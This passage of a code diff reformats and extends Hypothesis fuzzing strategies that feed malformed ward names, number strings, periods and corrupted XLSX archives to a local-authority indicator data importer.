-                 st.text(alphabet=st.characters(codec="utf-8"), min_size=200, max_size=2000),
-                 st.integers(-10**30, 10**30).map(str), st.floats(allow_nan=True, allow_infinity=True).map(repr))
+WARD_VALUES = [
+    "St Mary Cray",
+    "Darwin",
+    "Cray Valley East",
+    "penge & cator",
+    PENGE_2022,
+    CRAY_VALLEY_EAST,
+    "E05000001",
+    "Penge and Cator ward",
+]
+NUMBERS = [
+    "0",
+    "1",
+    "4",
+    "5",
+    "-1",
+    "1e308",
+    "1e400",
+    "-0",
+    "nan",
+    "NaN",
+    "inf",
+    "-inf",
+    "1,000",
+    "3.5",
+    "99999999999999999999999",
+    "0x10",
+    "",
+    " ",
+    "1e-10",
+    "0.0000000001",
+    "1e-320",
+    "١٢",
+    "½",
+]
+PERIODS = [
+    "2024",
+    "2023/24",
+    "31 Mar 2024",
+    "2011/12-2013/14",
+    "mid-2020",
+    "0000",
+    "9999/00",
+    "24",
+    "",
+    "2024/23",
+    "2100",
+    "2101",
+    "1999/00",
+]
+cell = st.one_of(
+    st.sampled_from(WARD_VALUES + NUMBERS + PERIODS),
+    st.text(max_size=30),
+    st.text(alphabet=st.characters(codec="utf-8"), min_size=200, max_size=2000),
+    st.integers(-(10**30), 10**30).map(str),
+    st.floats(allow_nan=True, allow_infinity=True).map(repr),
+)
 column = st.one_of(st.sampled_from(COLS + ["Ward Name", "NUMERATOR", "", "numerator", "x"]), st.text(max_size=12))
 extension = st.sampled_from(["x.csv", "x.xlsx", "x.txt", "x.CSV", "x.xls", "x"])
 indicator = st.sampled_from(["neet", "cla_rate"])
@@ -1091,17 +1255,23 @@ def structured_csv(draw) -> bytes:
     for i in range(n):
         den = draw(st.integers(1, 10**7))
         num = draw(st.integers(0, den))
-        rows.append([pick(codes[i], ["", PENGE_2014, "e05014003", "E0501400", codes[0]]),
-                     pick("", WARD_VALUES + ["Mottingham", "Plaistow", "Bickley"]),
-                     pick(draw(st.sampled_from(["2024", "2023/24", "31 Mar 2020", "2011/12-2013/14", "mid-2020"])),
-                          PERIODS),
-                     pick(str(num), NUMBERS), pick(str(den), NUMBERS), draw(st.one_of(st.just(""), cell))])
+        rows.append(
+            [
+                pick(codes[i], ["", PENGE_2014, "e05014003", "E0501400", codes[0]]),
+                pick("", WARD_VALUES + ["Mottingham", "Plaistow", "Bickley"]),
+                pick(draw(st.sampled_from(["2024", "2023/24", "31 Mar 2020", "2011/12-2013/14", "mid-2020"])), PERIODS),
+                pick(str(num), NUMBERS),
+                pick(str(den), NUMBERS),
+                draw(st.one_of(st.just(""), cell)),
+            ]
+        )
     return csv_bytes(rows)
 
 
 def _valid_csv(store_rows=22) -> bytes:
-    return csv_bytes([good_row(code=f"E050{13987 + i}", name="", num=str(i), den=str(100 + i))
-                      for i in range(store_rows)])
+    return csv_bytes(
+        [good_row(code=f"E050{13987 + i}", name="", num=str(i), den=str(100 + i)) for i in range(store_rows)]
+    )
 
 
 VALID_CSV = _valid_csv()
@@ -1110,8 +1280,16 @@ VALID_XLSX = xlsx_bytes([good_row(code=f"E050{13987 + i}", name="", num=str(i), 
 
 @st.composite
 def zip_garbage(draw) -> bytes:
-    members = ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
-               "xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/sharedStrings.xml", "docProps/app.xml"]
+    members = [
+        "[Content_Types].xml",
+        "_rels/.rels",
+        "xl/workbook.xml",
+        "xl/_rels/workbook.xml.rels",
+        "xl/worksheets/sheet1.xml",
+        "xl/styles.xml",
+        "xl/sharedStrings.xml",
+        "docProps/app.xml",
+    ]
     src = zipfile.ZipFile(io.BytesIO(VALID_XLSX))
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as z:
@@ -1124,7 +1302,7 @@ def zip_garbage(draw) -> bytes:
                 content = original[: draw(st.integers(0, max(len(original), 0)))]
             elif how == "flip" and original:
                 i = draw(st.integers(0, len(original) - 1))
-                content = original[:i] + bytes([original[i] ^ 0xFF]) + original[i + 1:]
+                content = original[:i] + bytes([original[i] ^ 0xFF]) + original[i + 1 :]
             elif how == "empty":
                 content = b""
             else:
